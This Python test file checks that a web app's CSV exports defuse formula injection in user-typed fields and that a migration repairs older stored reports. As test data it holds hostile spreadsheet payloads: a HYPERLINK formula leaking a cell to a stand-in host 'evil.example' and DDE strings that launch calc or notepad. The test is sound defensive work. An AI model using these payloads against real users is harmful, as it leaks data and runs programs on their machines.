"""CSV formula injection: every CSV the app serves keeps what users typed from running as a formula.

OWASP's rule (vendor_qa/csv_export.py): a text cell starting with = + - @, a tab or a carriage return
gets a leading single quote. Text is what people typed; the app's own figures are numbers and stay
numbers, so a negative change of score is still "-3.5000" and not "'-3.5000".
"""

from __future__ import annotations

import csv
import io
import re
from decimal import Decimal
from pathlib import Path

from hypothesis import given, strategies as st
from sqlalchemy import select, update

import vendor_qa
from tests.integration import report_data
from vendor_qa import csv_export
from vendor_qa.calls.models import Agent, Call, Team
from vendor_qa.extensions import db
from vendor_qa.grading.models import Evaluation
from vendor_qa.reports import jobs
from vendor_qa.reports.archive_views import CSV_KINDS
from vendor_qa.scorecards.models import Scorecard, ScorecardVersion
from vendor_qa.tenants.scoping import tenant_scope

AGENT_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'
AGENT_CODE = "+SUM(1,2)"
TEAMS = {"T1": "@SUM(A1:A9)", "T2": "-2+3"}
TOPICS = {"A1": "=1+1", "A2": "-3.5", "A3": "\t=cmd|' /C calc'!A0", "A4": "\r=cmd"}
SCORECARD = "=cmd|' /C notepad'!A0"
BAND = "@band"
EVALUATIONS_CSV = {AGENT_NAME, AGENT_CODE, *TEAMS.values(), *TOPICS.values(), SCORECARD, BAND}
AGENTS_CSV = {AGENT_NAME, AGENT_CODE, *TEAMS.values()}
NUMBER = re.compile(r"-\d+(\.\d+)?")  # the only cells that may start with a formula character: the app's numbers


def hostile_october(build):
    """October's report world (tests/integration/report_data.py) with names and topics that start like formulas."""
    world = report_data.october(build)
    with tenant_scope(world.tenant.id):
        agents = world.agents
        db.session.execute(update(Agent).where(Agent.id == agents["A1"].id).values(display_name=AGENT_NAME))
        db.session.execute(update(Agent).where(Agent.id == agents["A2"].id).values(code=AGENT_CODE))
        for key, name in TEAMS.items():
            db.session.execute(update(Team).where(Team.id == world.teams[key].id).values(name=name))
        for key, topic in TOPICS.items():
            db.session.execute(update(Call).where(Call.agent_id == agents[key].id).values(topic=topic))
        scorecard_id = db.session.scalar(select(ScorecardVersion.scorecard_id)
                                         .where(ScorecardVersion.id == world.card.version_id))
        db.session.execute(update(Scorecard).where(Scorecard.id == scorecard_id).values(name=SCORECARD))
        latest = db.session.scalar(select(Evaluation.id).where(Evaluation.agent_id == agents["A3"].id)
                                   .order_by(Evaluation.submitted_at.desc()).limit(1))  # in October
        db.session.execute(update(Evaluation).where(Evaluation.id == latest).values(band=BAND))
        db.session.commit()
    return world


def _csv_exports(app, slug: str, report_id: int) -> dict[str, str]:
    """Every CSV the URL map serves, by the path this tenant's manager downloads it from."""
    from flask import url_for

    paths = {}
    with app.test_request_context():
        for rule in app.url_map.iter_rules():
            if not rule.rule.endswith(".csv"):
                continue
            if rule.endpoint == "report_archive.csv":
                for kind in CSV_KINDS:
                    paths[kind] = url_for(rule.endpoint, tenant=slug, report_id=report_id, kind=kind)
            elif rule.endpoint == "trainings.report_csv":  # the report's trainings (test_trainings.py has rows)
                paths["trainings"] = url_for(rule.endpoint, tenant=slug, report_id=report_id)
            elif rule.endpoint == "imports.example":  # the example file the app ships for imports
                paths["import example"] = url_for(rule.endpoint, tenant=slug)
            else:
                raise AssertionError(f"a CSV export this test does not know: {rule.rule}; add it here")
    return paths


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_every_csv_export_neutralises_what_users_typed_and_keeps_numbers(app, build, login, client):
    world = hostile_october(build)
    report_id = jobs.build_report(world.tenant.id, "2026-10")
    login(world.tenant_manager)
    downloads = {}
    for name, path in _csv_exports(app, world.tenant.slug, report_id).items():
        response = client.get(path)
        assert response.status_code == 200 and response.mimetype == "text/csv", path
        downloads[name] = _rows(response.get_data(as_text=True))
    assert {"evaluations", "agents"} <= downloads.keys()

    for name, rows in downloads.items():
        for row in rows:
            for column, cell in row.items():
                if cell.startswith(csv_export.FORMULA_STARTS):
                    assert NUMBER.fullmatch(cell), f"{name} CSV, {column}: {cell!r} would run as a formula"
    cells = {name: {cell for row in rows for cell in row.values()} for name, rows in downloads.items()}
    assert {"'" + value for value in EVALUATIONS_CSV} <= cells["evaluations"]
    assert {"'" + value for value in AGENTS_CSV} <= cells["agents"]

    changes = [Decimal(row["change"]) for row in downloads["agents"] if row["change"]]  # numbers, unquoted
    assert any(change < 0 for change in changes), "the world has an agent who got worse"


def test_only_csv_export_writes_csv():
    """One writer for every export, so that no export can forget to neutralise its cells."""
    package = Path(vendor_qa.__file__).parent
    writers = [str(path.relative_to(package)) for path in package.rglob("*.py")
               if re.search(r"csv\.(writer|DictWriter)\b|from csv import", path.read_text(encoding="utf-8"))]
    assert writers == ["csv_export.py"]


@given(st.lists(st.lists(st.one_of(st.text(), st.integers(), st.decimals(allow_nan=False, allow_infinity=False),
                                   st.none()), min_size=1, max_size=4), max_size=4))
def test_written_cells_read_back_as_written_or_quoted_never_as_formulas(rows):
    stream = io.StringIO(newline="")
    csv_export.write(stream, ["a", "b", "c", "d"][:max((len(r) for r in rows), default=1)], rows)
    read = list(csv.reader(io.StringIO(stream.getvalue(), newline="")))[1:]
    assert len(read) == len(rows)
    for written, back in zip(rows, read):
        for cell, text in zip(written, back):
            if isinstance(cell, str):
                assert text == ("'" + cell if cell.startswith(csv_export.FORMULA_STARTS) else cell)
            else:
                assert text == ("" if cell is None else str(cell))


def _old_csv(rows: list[list[str]]) -> str:
    """CSV as exports wrote it before csv_export: every cell as it was, nothing quoted."""
    stream = io.StringIO(newline="")
    csv.writer(stream).writerows(rows)
    return stream.getvalue()


@given(st.lists(st.lists(st.one_of(st.text(), st.decimals(allow_nan=False, allow_infinity=False).map(str)),
                         min_size=1, max_size=4), max_size=5))
def test_an_old_csv_rewritten_keeps_its_figures_and_runs_no_formula(rows):
    again = csv_export.rewritten(_old_csv(rows))
    read = list(csv.reader(io.StringIO(again, newline="")))
    assert [len(row) for row in read] == [len(row) for row in rows]
    for written, back in zip(rows, read):
        for cell, text in zip(written, back):
            figure = cell.strip() == cell and _reads_as_number(cell)
            assert text == (cell if figure or not cell.startswith(csv_export.FORMULA_STARTS) else "'" + cell)
    assert csv_export.rewritten(again) == again  # a second migration run changes nothing


def _reads_as_number(cell: str) -> bool:
    try:
        return Decimal(cell).is_finite()
    except ArithmeticError:
        return False


def test_the_migration_neutralises_the_csvs_of_reports_built_before_the_rule(app, build):
    import gzip

    from flask_migrate import downgrade, upgrade

    from vendor_qa.reports.models import Report

    tenant = build.tenant()
    old = _old_csv([["agent_name", "change"], [AGENT_NAME, "-3.5000"], ["Ann", "2.0000"]])
    with app.app_context():
        downgrade(revision="18d000000014")
        try:
            with tenant_scope(tenant.id):
                report = Report(tenant_id=tenant.id, kind="weekly", period="2026-W40", status="ready",
                                evaluations_csv=gzip.compress(old.encode()), agents_csv=None)
                db.session.add(report)
                db.session.commit()
                report_id = report.id
        finally:
            db.session.remove()
            upgrade()
        with tenant_scope(tenant.id):
            stored = db.session.get(Report, report_id)
            rows = list(csv.reader(io.StringIO(gzip.decompress(stored.evaluations_csv).decode(), newline="")))
            assert stored.agents_csv is None
    assert rows == [["agent_name", "change"], ["'" + AGENT_NAME, "-3.5000"], ["Ann", "2.0000"]]
